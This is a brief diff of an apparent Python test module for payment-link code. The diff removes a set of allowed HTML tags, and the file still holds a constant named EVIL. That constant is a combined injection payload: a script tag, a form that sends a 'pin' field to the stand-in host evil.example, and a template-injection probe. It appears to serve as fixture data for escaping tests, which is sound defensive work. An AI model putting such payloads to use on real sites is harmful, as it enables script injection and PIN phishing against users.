@@ -19,7 +19,6 @@ from tests.links.pay.alipay_peer import Desk
 __all__ = ["gate", "phone", "provider", "site"]
 
 EVIL: Final = "\"><script>alert(1)</script><form action='//evil.example'><input name=pin>'{{7*7}}"
-HARMLESS: Final = frozenset({"form", "input", "a", "img", "button", "select", "style", "meta"})
 COUNTED: Final = re.compile(r"\b(?:po|st|rf|pu|pc|cf|w|m|l|b)\d+\b")
 """Ids that count up: who has two of them knows how many there were between."""
 
